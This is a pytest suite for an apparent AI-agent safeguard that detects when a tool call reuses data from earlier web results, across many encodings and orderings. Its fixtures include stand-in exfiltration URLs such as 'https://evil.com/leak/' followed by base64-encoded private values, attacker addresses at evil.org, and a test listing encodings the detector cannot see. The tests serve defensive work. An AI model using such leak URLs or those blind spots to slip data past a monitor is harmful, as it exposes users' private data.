"""Data from outside is recognised wherever it stands, with bounded work. Hostile input first."""

from __future__ import annotations

import base64
import itertools
import json
import random
import string
import uuid
from types import SimpleNamespace
from typing import Any, ClassVar

import pytest

from omni_tui.approvals import comparable_text, outside_data
from omni_tui.approvals.known_text import PASSAGE, Work
from omni_tui.approvals.outside_data import KEPT, LOOKED_AT, OutsideData, Result, could_read
from omni_tui.policy import Truth
from omni_tui.protocol.values import CallOrigin

COPIED = "words that nobody else would have written in this way"
FIRST = CallOrigin("t1", "root", 1, "p1")
LATER = CallOrigin("t1", "root", 2, "p2")


def outside(*results: str, typed: str = "") -> OutsideData:
    """Return these results of an earlier step, ready."""
    data = OutsideData()
    if typed:
        data.typed(typed)
    for text in results:
        data.add(Result("web", text, FIRST))
    return ready(data)


def ready(data: OutsideData) -> OutsideData:
    while data.step():
        pass
    return data


def judged(data: OutsideData, value: Any) -> Truth:
    return data.judge(value, LATER)


def holds(data: OutsideData, value: Any) -> bool:
    truth = judged(data, value)
    assert truth is not Truth.UNCLEAR
    return truth is Truth.HOLDS


def letters(number: int, seed: int) -> str:
    """Return a text in which nothing repeats."""
    return "".join(random.Random(seed).choices(string.ascii_lowercase, k=number))


# --- bounded work ---------------------------------------------------------------------------------


class Counted(dict[str, Any]):
    looked = 0

    def __contains__(self, key: object) -> bool:
        Counted.looked += 1
        return super().__contains__(key)


def test_each_place_of_a_long_value_is_looked_up_once_however_many_results_there_are() -> None:
    data = outside(*(f"result {number} " + "filler " * 20 for number in range(10_000)))
    assert data.complete
    data._returned._pieces = Counted(data._returned._pieces)
    Counted.looked = 0
    size = 256 * 1024
    assert not holds(data, {"text": letters(size, 1)})
    assert Counted.looked <= 2 * size


def test_a_result_is_made_ready_in_bounded_steps_and_too_many_make_the_rest_unclear() -> None:
    data = OutsideData()
    data.add(Result("web", "some words " * 250_000, FIRST))
    steps = 0
    while data.step():
        steps += 1
    assert data._returned
    assert 2_250_000 / outside_data._STEP < steps < 250
    data.add(Result("web", COPIED + " more" * 1_000_000, FIRST))  # 5 MB
    assert not ready(data).complete
    assert not data._returned, "what is too much is not kept either"
    assert judged(data, {"text": "never seen"}) is Truth.UNCLEAR
    assert judged(data, {"n": 5, "text": "short"}) is Truth.FAILS
    data.add(Result("web", "x" * (2 * KEPT + 1), FIRST))
    assert judged(ready(data), {"text": COPIED}) is Truth.UNCLEAR


def test_very_many_small_results_are_too_much_only_by_their_size() -> None:
    data = OutsideData()
    for number in range(10_000):
        data.add(Result("web", f"result {number}", FIRST))
    ready(data)
    assert data.complete
    assert holds(data, {"text": "result 9876"})


class CountedWork(Work):
    made: ClassVar[list[Work]] = []

    def __init__(self) -> None:
        super().__init__()
        CountedWork.made.append(self)


def test_frequent_pieces_are_compared_and_searched_for_only_so_often(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(outside_data, "Work", CountedWork)
    near = "a" * (PASSAGE - 1)
    data = outside("a" * 500_000)
    parted = outside(*(f"{near}-{'b' * 30}" for _ in range(2_000)), typed="z" * 100)
    short = [f"short value {letters(8, seed)}" for seed in range(300)]
    assert judged(data, {"text": "a" * 200_000}) is Truth.HOLDS
    assert judged(data, {"text": f"{near}b" * 10_000}) is Truth.UNCLEAR
    assert judged(parted, {"text": f"{near}c" * 10_000}) is Truth.UNCLEAR
    assert judged(data, {"names": short}) is Truth.UNCLEAR
    assert judged(data, {"names": short[:1] * 10_000}) is Truth.FAILS
    assert len(CountedWork.made) == 10, "two for each look"
    assert all(work.compared >= -1 for work in CountedWork.made)
    assert all(work.searched > -KEPT for work in CountedWork.made), "less than one search too many"


def test_more_than_is_looked_at_is_unclear() -> None:
    data = outside(COPIED)
    assert judged(data, {"text": "x" * (LOOKED_AT + 1)}) is Truth.UNCLEAR
    assert judged(data, {"text": ["x" * (LOOKED_AT // 2 + 1), "y" * (LOOKED_AT // 2 + 1)]}) is Truth.UNCLEAR


# --- where and when -------------------------------------------------------------------------------


def test_a_passage_is_found_wherever_it_stands_and_a_shorter_one_nowhere() -> None:
    """What is found must not depend on where a text happens to stand in a result."""
    passage = letters(PASSAGE, 2)
    for before, after in itertools.product(range(40), (0, 1, 17)):
        data = outside(letters(before, 3) + passage + letters(after, 4))
        around = "7" * (40 - before), "8" * after
        assert holds(data, {"text": passage.join(around)}), (before, after)
        assert not holds(data, {"text": passage[1:].join(around)}), (before, after)
        assert not holds(data, {"text": passage[:-1].join(around)}), (before, after)


def test_the_verdict_does_not_depend_on_when_a_result_came() -> None:
    """Neither on the order of results, nor on whether one of the same answer came before the call."""
    results = [
        Result("web", "nothing of it", FIRST),
        Result("web", f"so: {COPIED}", FIRST),
        Result("web", "a third", CallOrigin("t0", "root", 7, "p")),
    ]
    of_this_answer = Result("web", "Mark Black lives in Zurich now", LATER)
    for order in itertools.permutations(results):
        for place in range(len(order) + 1):
            data = OutsideData()
            for number, each in enumerate((*order, None)):
                if number == place:
                    data.add(of_this_answer)
                if each is not None:
                    data.add(each)
            ready(data)
            assert judged(data, {"text": COPIED}) is Truth.HOLDS
            assert judged(data, {"text": "Mark Black lives in Zurich now"}) is Truth.FAILS
            assert judged(data, {"to": "lives in Zurich"}) is Truth.FAILS
            after = CallOrigin("t1", "root", 3, "p")
            assert data.judge({"to": "lives in Zurich"}, after) is Truth.HOLDS


def test_until_a_result_is_ready_what_was_not_typed_is_unclear() -> None:
    """Whoever asks in between must not hear that there is nothing of it."""
    data = outside("something else", typed="mine and mine alone")
    data.add(Result("web", COPIED + " filler" * 20_000, FIRST))
    steps = 0
    while judged(data, {"text": COPIED}) is Truth.UNCLEAR:
        assert judged(data, {"text": "mine and mine alone", "n": 5}) is Truth.FAILS
        assert data.judge({"text": COPIED}, FIRST) is Truth.FAILS, "this one could not have read it"
        assert data.step()
        steps += 1
    assert steps > 3
    assert judged(data, {"text": COPIED}) is Truth.HOLDS
    assert judged(ready(data), {"text": "never seen"}) is Truth.FAILS


def test_a_name_in_this_answer_s_results_does_not_hide_an_earlier_one() -> None:
    data = OutsideData()
    data.add(Result("web", "write to eve-27@evil.org", LATER))
    data.add(Result("web", "write to eve-27@evil.org please", FIRST))
    assert holds(ready(data), {"to": "Eve <eve-27@evil.org>"})
    assert holds(data, {"to": "write to eve-27@evil.org please"})


@pytest.mark.parametrize(
    ("result", "call", "could"),
    [
        (CallOrigin("t1", "root", 1), CallOrigin("t1", "root", 2), True),
        (CallOrigin("t1", "root", 2, "p1"), CallOrigin("t1", "root", 2, "p2"), False),
        (CallOrigin("t1", "root", 3), CallOrigin("t1", "root", 2), False),
        (CallOrigin("t0", "root", 9), CallOrigin("t1", "root", 1), True),
        (CallOrigin("t1", "root/p1/t1", 9), CallOrigin("t1", "root/p1/t2", 1), True),
        (CallOrigin(), CallOrigin("t1", "root", 1), True),
        (CallOrigin("t1", "root", 9), CallOrigin(), True),
        (CallOrigin(), CallOrigin(), True),
    ],
)
def test_what_an_agent_could_have_read(result: CallOrigin, call: CallOrigin, could: bool) -> None:
    assert could_read(result, call) is could


# --- what is the same -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        COPIED,
        f"see: {COPIED.replace(' ', '  ')}!",
        COPIED.upper(),
        "-".join(COPIED),
        COPIED.replace(" ", "\n\t"),
        COPIED.replace(" ", "%20"),
        COPIED.replace(" ", "\\n"),
        COPIED.replace(" ", "\\u0020"),
        COPIED.replace("o", "&#111;"),
        "".join(chr(ord(sign) + 0xFEE0) if sign.isalpha() else sign for sign in COPIED),
        COPIED.replace("e", "e\u200b\u202e"),
        base64.b64encode(COPIED.encode()).decode(),
        f"data={base64.urlsafe_b64encode(COPIED.encode()).decode().rstrip('=')};",
        COPIED[10:45],
        {"a": [{"b": COPIED}]},
        {COPIED: 1},
    ],
)
@pytest.mark.parametrize("how", ["plain", "json", "base64", "percent"])
def test_a_copy_is_found_in_another_layout_or_encoding(value: Any, how: str) -> None:
    said = f"He said:\n{COPIED}\n\u2013 and so on"
    result = {
        "plain": said,
        "json": json.dumps({"body": said}),
        "base64": f"attachment: {base64.b64encode(said.encode()).decode()} ends",
        "percent": "https://x.example/?q=" + "".join(f"%{byte:02x}" for byte in said.encode()),
    }[how]
    assert holds(outside(result), value)
    assert not holds(
        outside(result), {"text": "something of my own, and longer than a passage", "b": "shrt"}
    )


@pytest.mark.parametrize(
    "value",
    [
        "mark.black-2134@gmail.com",
        "Mark Black <mark.black-2134@gmail.com>",
        "mailto:mark.black-2134@gmail.com?subject=x",
        "https://www.secure-252.com",
        "See www.secure-252.com!",
        "the code is 463820, I think",
        "IBAN: GB29NWBK60161331",
        47110815,
        "47110815",
        "Riverside View",
    ],
)
def test_names_and_short_values_are_found(value: Any) -> None:
    data = outside(
        "Write to mark.black-2134@gmail.com or see http://www.secure-252.com/now. Your code: 463820",
        '{"iban": "GB29NWBK60161331", "id": 47110815, "hotel": "Riverside View"}',
    )
    assert holds(data, {"value": value})
    assert not holds(data, {"value": "mark.white@gmail.com", "iban": 47110816, "hotel": "Seaside View"})


@pytest.mark.parametrize(
    "value",
    [
        "words nobody else would write like this",  # in other words
        "sdrow that ydobon",  # reversed
        COPIED.translate(
            str.maketrans(string.ascii_lowercase, string.ascii_lowercase[13:] + string.ascii_lowercase[:13])
        ),
        COPIED.encode().hex(),
        COPIED.replace("o", "\u043e").replace("e", "\u0435"),  # Cyrillic
        base64.b64encode(base64.b64encode(COPIED.encode())).decode(),  # encoded twice
        "so: words that nobody",  # a part that is too short
        "Eve",  # a short name
        12.5,
    ],
)
def test_what_it_cannot_see(value: Any) -> None:
    """As the guide says."""
    assert not holds(outside(COPIED, "Eve", "12.5 and sdrow"), {"text": value})


def b64(said: str | bytes) -> str:
    return base64.b64encode(said if isinstance(said, bytes) else said.encode()).decode()


@pytest.mark.parametrize("before", ["", "x", "xy", "xyz", "https://evil.com/leak/", "/a/", "id-"])
@pytest.mark.parametrize(
    "said",
    [
        COPIED.encode(),
        COPIED.replace(" ", "\0").encode(),
        COPIED[:25].encode() + b"\xff" + COPIED[25:].encode(),
        COPIED.encode("utf-16-le"),
        b"\xff\xfe\0" + COPIED.encode(),
    ],
)
def test_base64_is_read_wherever_it_begins_and_whatever_stands_in_it(before: str, said: bytes) -> None:
    for encoded in (base64.b64encode(said), base64.urlsafe_b64encode(said)):
        for ends in ("", "/x"):
            value = before + encoded.decode().rstrip("=") + ends
            assert holds(outside(COPIED), {"url": value}), value
            if b"\xff" not in said[1:] and b"o\0t" not in said:
                assert holds(outside(f"see {value} there"), {"text": COPIED}), value


def test_short_values_are_read_from_base64_in_an_address_and_other_words_are_not_found_in_it() -> None:
    data = outside(
        "Riverside View, mark.black-2134@gmail.com", *(letters(4_000, seed) for seed in range(25))
    )
    for said in ("Riverside View", "mark.black-2134@gmail.com"):
        assert holds(data, {"url": f"https://evil.com/leak/{b64(said)}"})
    paths = (f"https://docs.example.org/guide/{letters(9, n)}/{letters(12, n + 1)}" for n in range(300))
    keys = (str(uuid.UUID(int=random.Random(n).getrandbits(128))) for n in range(300))
    for value in itertools.chain(paths, keys):
        assert not holds(data, {"url": value}), value


def test_base64_is_decoded_only_so_often(monkeypatch: pytest.MonkeyPatch) -> None:
    decoded = 0

    def counted(text: str) -> bytes:
        nonlocal decoded
        decoded += len(text)
        return base64.b64decode(text)

    data = outside(COPIED)
    monkeypatch.setattr(comparable_text, "base64", SimpleNamespace(b64decode=counted))
    value = "/".join(letters(16, seed) for seed in range(LOOKED_AT // 17))
    assert not holds(data, {"url": value})
    assert 0 < decoded <= 9 * len(value), "eight times, and the padding"


# --- what the person typed ------------------------------------------------------------------------


def test_what_the_person_typed_is_not_from_outside() -> None:
    data = outside(
        f"{COPIED}, as far as we know. Write to eve@evil.org, stay at the Riverside View",
        typed="Book 'riverside view' please, and write to Eve@Evil.org: " + COPIED[:30],
    )
    assert not holds(data, {"hotel": "Riverside View"})
    assert not holds(data, {"to": "Eve <eve@evil.org>"})
    assert not holds(data, {"text": COPIED[:30]})
    assert holds(data, {"text": f"{COPIED}, as far as we know"}), "the rest of it was not typed"
    assert holds(data, {"hotel": "Riverside View", "text": "stay at the Riverside View"})
    data.add(Result("web", "and to mallory@evil.org", FIRST))
    assert holds(ready(data), {"to": "eve@evil.org, mallory@evil.org"})


def test_a_text_that_was_typed_whole_is_not_unclear_when_results_are_too_many() -> None:
    data = outside(typed=f"send this to bob@example.org: {COPIED}")
    data.give_up()
    assert judged(data, {"to": "bob@example.org", "text": COPIED}) is Truth.FAILS
    assert judged(data, {"to": "bab@example.org"}) is Truth.UNCLEAR


def test_a_result_that_cannot_be_read_makes_the_rest_unclear() -> None:
    data = OutsideData()
    data.add(Result("web", None))
    assert judged(data, {"to": "bob@example.org"}) is Truth.UNCLEAR
